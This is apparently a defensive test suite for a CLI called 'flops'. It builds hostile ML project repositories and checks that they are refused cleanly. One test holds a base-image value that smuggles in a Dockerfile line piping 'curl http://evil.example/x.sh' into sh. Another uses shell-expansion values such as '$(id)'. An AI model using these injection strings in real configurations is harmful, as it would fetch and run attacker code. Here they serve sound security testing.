import assert from 'node:assert/strict';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fixturesDir } from '../repo-paths';
import { cli, type CliResult } from './run-cli';

/**
 * Hostile repositories and project files (issue 15), through the built `flops` CLI in a child process,
 * as a user who cloned them would run it. Every repository is built here (no links are committed).
 * Each case ends with a finding or a clean refusal: exit 0, 1 or 2, never a stack trace.
 */

interface JsonFinding {
  readonly rule: string;
  readonly severity: string;
  readonly file: string;
  readonly message: string;
  /** 1-based. */
  readonly line: number;
}

function clean(result: CliResult): void {
  assert.ok(result.status === 0 || result.status === 1 || result.status === 2, `exit ${String(result.status)}: ${result.stderr}`);
  assert.doesNotMatch(result.stderr, /internal error|\n\s+at /, 'no stack trace');
}

async function lintJson(repo: string, cwd: string): Promise<{ status: number | null; findings: JsonFinding[] }> {
  const result = await cli(['lint', repo, '--format', 'json'], cwd);
  clean(result);
  return { status: result.status, findings: (JSON.parse(result.stdout) as { findings: JsonFinding[] }).findings };
}

function listFiles(dir: string): string[] {
  return existsSync(dir) ? readdirSync(dir, { recursive: true, encoding: 'utf8' }) : [];
}

describe('hostile project files and repositories (CLI)', function () {
  this.timeout(60_000);
  let work: string;
  let n = 0;
  before(() => {
    work = mkdtempSync(path.join(tmpdir(), 'flops-hostile-'));
  });
  after(() => rmSync(work, { recursive: true, force: true }));

  /** A fresh copy of the ready sklearn repository, optionally with its flops.json replaced. */
  function repo(project?: unknown): string {
    const target = path.join(work, `repo-${++n}`);
    cpSync(path.join(fixturesDir, 'ready-sklearn'), target, { recursive: true });
    if (project !== undefined) writeFileSync(path.join(target, 'flops.json'), typeof project === 'string' ? project : JSON.stringify(project, null, 2));
    return target;
  }

  it('1: "constructor" next to training_rounds -1 is an unknown key, and the rounds are still an error; generate refuses', async () => {
    const dir = repo({ constructor: 1, ml_model_flavor: 'sklearn', training_configuration: { training_rounds: -1 } });
    const lint = await lintJson(dir, work);
    assert.equal(lint.status, 1);
    assert.ok(lint.findings.some((f) => f.severity === 'error' && /training_rounds must be at least 1/.test(f.message)), JSON.stringify(lint.findings));
    assert.ok(lint.findings.some((f) => f.severity === 'warning' && /Unknown key "constructor"/.test(f.message)));
    const validate = await cli(['validate', path.join(dir, 'flops.json')], work);
    clean(validate);
    assert.equal(validate.status, 1);
    const generate = await cli(['generate', dir], work);
    clean(generate);
    assert.equal(generate.status, 1);
    assert.ok(!existsSync(path.join(dir, '.flops')), 'nothing generated');
  });

  it('2: a base image with newlines is refused by validate, lint and generate --force; no Dockerfile is written', async () => {
    const dir = repo({ ml_model_flavor: 'sklearn', image: { base_image: 'python:3.10-slim\nFROM python:3.10-slim AS pwn\nRUN curl -s http://evil.example/x.sh | sh\nFROM python:3.10-slim' } });
    const lint = await lintJson(dir, work);
    assert.equal(lint.status, 1);
    assert.ok(lint.findings.some((f) => f.rule === 'flops/project-config' && f.severity === 'error' && /image\.base_image: the value contains a line break/.test(f.message)));
    const generate = await cli(['generate', dir, '--force'], work);
    clean(generate);
    assert.equal(generate.status, 1);
    assert.match(generate.stderr, /flops\.json is invalid \(image\.base_image/);
    assert.ok(!existsSync(path.join(dir, '.flops', 'Dockerfile')));
  });

  it('3: "$" in image names is refused before it could reach compose.yaml', async () => {
    const dir = repo({ image: { base_image: 'python:${HOME}' }, simulation: { mlflow: { enabled: true, image: 'mlflow:$(id)' } } });
    const validate = await cli(['validate', path.join(dir, 'flops.json'), '--format', 'json'], work);
    clean(validate);
    const findings = (JSON.parse(validate.stdout) as { findings: JsonFinding[] }).findings;
    assert.deepEqual(findings.map((f) => f.message.split(':')[0]), ['image.base_image', 'simulation.mlflow.image']);
  });

  it('4: generate refuses (exit 2) when .flops, or a folder below it, links out of the repository, and writes nothing there', async () => {
    const outside = path.join(work, 'outside-flops');
    mkdirSync(outside);
    const linked = repo();
    symlinkSync(outside, path.join(linked, '.flops'));
    const whole = await cli(['generate', linked], work);
    clean(whole);
    assert.equal(whole.status, 2);
    assert.match(whole.stderr, /\.flops is a link to .*outside-flops, outside the repository/);
    assert.deepEqual(listFiles(outside), []);

    const partly = repo();
    mkdirSync(path.join(partly, '.flops'));
    symlinkSync(outside, path.join(partly, '.flops', 'flops_app'));
    const below = await cli(['generate', partly], work);
    clean(below);
    assert.equal(below.status, 2);
    assert.match(below.stderr, /flops_app is a link to/);
    assert.deepEqual(listFiles(outside), []);
    assert.ok(!existsSync(path.join(partly, '.flops', 'manifest.json')), 'nothing written inside either');

    // A link that stays inside the repository is fine.
    const inside = repo();
    mkdirSync(path.join(inside, 'generated'));
    symlinkSync(path.join(inside, 'generated'), path.join(inside, '.flops'));
    const ok = await cli(['generate', inside], work);
    assert.equal(ok.status, 0, ok.stderr);
  });

  it('5: a contract file linked to a file outside the repository is an error at the file, and is not read', async () => {
    const dir = repo();
    const outsideFile = path.join(work, `outside-mm-${n}.py`);
    // If it were read, its mlflow import would be reported; it must not be.
    writeFileSync(outsideFile, `import mlflow\n${readFileSync(path.join(dir, 'model_manager.py'), 'utf8')}`);
    unlinkSync(path.join(dir, 'model_manager.py'));
    symlinkSync(outsideFile, path.join(dir, 'model_manager.py'));
    const lint = await lintJson(dir, work);
    assert.equal(lint.status, 1);
    const errors = lint.findings.filter((f) => f.severity === 'error');
    assert.deepEqual(errors.map((f) => [f.rule, f.file]), [['flops/unreadable-file', 'model_manager.py']]);
    assert.match(errors[0]?.message ?? '', /link to .*outside the repository; FLOps builds from a git clone, where this link does not resolve/);
    assert.ok(!lint.findings.some((f) => f.rule === 'flops/mlflow-import'), 'the outside file was read');
  });

  it('6: a folder named model_manager.py or data_manager.py is the missing-file finding; generate refuses', async () => {
    const mm = repo();
    unlinkSync(path.join(mm, 'model_manager.py'));
    mkdirSync(path.join(mm, 'model_manager.py'));
    const lint = await lintJson(mm, work);
    assert.equal(lint.status, 1);
    const missing = lint.findings.filter((f) => f.rule === 'flops/model-manager-file');
    assert.equal(missing.length, 1);
    assert.match(missing[0]?.message ?? '', /^model_manager\.py is missing at the repository root \(model_manager\.py here is a folder, not a file\)/);
    const generate = await cli(['generate', mm], work);
    clean(generate);
    assert.equal(generate.status, 1);
    assert.ok(!existsSync(path.join(mm, '.flops')));

    const dm = repo();
    unlinkSync(path.join(dm, 'data_manager.py'));
    mkdirSync(path.join(dm, 'data_manager.py'));
    const dmLint = await lintJson(dm, work);
    assert.match(dmLint.findings.find((f) => f.rule === 'flops/data-manager-missing')?.message ?? '', /^data_manager\.py is missing \(data_manager\.py here is a folder, not a file\)/);
  });

  it('7: duplicate keys in conda.yaml are an error at the later key, and the last one is what counts', async () => {
    const dir = repo();
    const conda = readFileSync(path.join(dir, 'conda.yaml'), 'utf8');
    writeFileSync(path.join(dir, 'conda.yaml'), `${conda.trimEnd()}\ndependencies:\n  - python=2.7\n  - mlflow\n`);
    const secondLine = `${conda.trimEnd()}\n`.split('\n').length;
    const lint = await lintJson(dir, work);
    assert.equal(lint.status, 1);
    const duplicate = lint.findings.find((f) => f.rule === 'flops/conda-invalid');
    assert.match(duplicate?.message ?? '', /Key "dependencies" appears twice .*conda reads the last one/);
    assert.equal(duplicate?.line, secondLine);
    // The second block is the one read: its python=2.7 is reported.
    assert.ok(lint.findings.some((f) => f.rule === 'flops/conda-python-version' && /python=2\.7/.test(f.message)));
  });

  it('8: a model_manager.py with CR-only line ends (CPython accepts it) lints clean', async () => {
    const dir = repo();
    const file = path.join(dir, 'model_manager.py');
    writeFileSync(file, readFileSync(file, 'utf8').replace(/\r?\n/g, '\r'));
    const lint = await lintJson(dir, work);
    assert.deepEqual(lint.findings.filter((f) => f.severity === 'error'), []);
    assert.ok(!lint.findings.some((f) => f.rule === 'flops/model-manager-class'));
  });

  it('9: validate reports an unknown lint.rules id with the same suggestion as lint', async () => {
    const dir = repo({ lint: { rules: { 'flops/mlflow-imprt': 'off' } } });
    const validate = await cli(['validate', path.join(dir, 'flops.json')], work);
    clean(validate);
    assert.match(validate.stdout, /Unknown rule id "flops\/mlflow-imprt"\. Did you mean "flops\/mlflow-import"\?/);
    const lint = await lintJson(dir, work);
    assert.ok(lint.findings.some((f) => /Unknown rule id "flops\/mlflow-imprt"\. Did you mean "flops\/mlflow-import"\?/.test(f.message)));
  });

  it('10: huge numbers say "too large", a bad repo URL gets no garbled fix, a BOM is a warning', async () => {
    const big = repo('{"training_configuration": {"training_rounds": 1e400}}');
    const huge = await cli(['validate', path.join(big, 'flops.json')], work);
    clean(huge);
    assert.match(huge.stdout, /training_rounds: the number is too large \(it overflows to Infinity\)/);

    const sla = path.join(work, 'huge.sla.json');
    writeFileSync(sla, readFileSync(path.join(fixturesDir, '../sla/minimal.sla.json'), 'utf8').replace(/"memory": ?100/, '"memory": 18446744073709551616'));
    const slaResult = await cli(['validate', sla], work);
    clean(slaResult);
    assert.match(slaResult.stdout, /memory 18446744073709552000 is too large/);

    const url = repo({ target: 'flops-addon', ml_repo_url: 'git@github.com:example-org/"weird" repo.git' });
    const urlLint = await lintJson(url, work);
    const finding = urlLint.findings.find((f) => f.rule === 'flops/repo-url');
    assert.ok(finding !== undefined);
    assert.doesNotMatch(finding.message, /Use "/, 'no fix built from the bad input');

    const bom = repo();
    writeFileSync(path.join(bom, 'flops.json'), `\uFEFF${readFileSync(path.join(bom, 'flops.json'), 'utf8')}`);
    const bomLint = await lintJson(bom, work);
    assert.ok(bomLint.findings.some((f) => f.severity === 'warning' && /starts with a UTF-8 byte-order mark/.test(f.message)));
    const bomValidate = await cli(['validate', path.join(bom, 'flops.json')], work);
    assert.match(bomValidate.stdout, /byte-order mark/);
  });

  it('issue 13: 10,000 nested parentheses are a python-syntax finding at their position, not a crash; the rest is still linted', async () => {
    const dir = repo();
    const file = path.join(dir, 'model_manager.py');
    const lines = readFileSync(file, 'utf8').split('\n').length;
    writeFileSync(file, `${readFileSync(file, 'utf8')}x = ${'('.repeat(10_000)}1${')'.repeat(10_000)}\n`);
    writeFileSync(path.join(dir, 'data_manager.py'), `import mlflow\n${readFileSync(path.join(dir, 'data_manager.py'), 'utf8')}`);
    const lint = await lintJson(dir, work);
    const syntax = lint.findings.find((f) => f.rule === 'flops/python-syntax');
    assert.match(syntax?.message ?? '', /too many nested parentheses/);
    assert.equal(syntax?.file, 'model_manager.py');
    assert.equal(syntax?.line, lines);
    assert.ok(lint.findings.some((f) => f.rule === 'flops/mlflow-import' && f.file === 'data_manager.py'), 'the other files are still linted');
  });

  it('issue 13: long attribute and call chains and deep unary nesting are linted without recursion', async () => {
    const dir = repo();
    const file = path.join(dir, 'model_manager.py');
    writeFileSync(file, `${readFileSync(file, 'utf8')}z = a${'.b'.repeat(20_000)}\nc = f${'()'.repeat(20_000)}\ny = ${'-'.repeat(20_000)}1\n`);
    const lint = await lintJson(dir, work);
    assert.equal(lint.status, 0, JSON.stringify(lint.findings));
  });
});
